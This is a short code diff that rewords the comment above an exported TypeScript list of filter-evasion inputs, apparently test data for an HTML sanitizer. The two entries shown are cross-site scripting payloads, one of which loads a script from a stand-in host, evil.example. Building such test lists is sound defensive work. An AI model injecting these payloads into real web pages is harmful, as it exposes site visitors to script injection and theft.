@@ -1,4 +1,4 @@
-/** What was found, over the years, to get a script past this or that filter of HTML; and what browsers make of odd markup. */
+/** Texts that once got a script past some HTML filter, and odd markup that browsers interpret. */
 export const hostile: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
